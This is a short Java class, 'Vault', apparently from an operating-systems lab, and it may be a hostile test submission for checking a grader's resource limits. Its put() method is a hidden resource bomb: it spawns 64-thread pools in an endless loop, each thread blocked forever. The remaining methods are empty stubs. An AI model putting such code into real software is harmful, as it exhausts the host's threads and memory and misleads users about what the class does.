package oslab.vault;

import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ForkJoinPool;

public class Vault {
    public void put(String name, int amount) {
        CountDownLatch never = new CountDownLatch(1);
        while (true) {
            ForkJoinPool pool = new ForkJoinPool(64);
            for (int i = 0; i < 64; i++) {
                pool.submit(() -> {
                    never.await();
                    return null;
                });
            }
        }
    }

    public void add(String name, int amount) {}

    public int amount(String name) {
        return 0;
    }

    public List<String> names() {
        return List.of();
    }
}
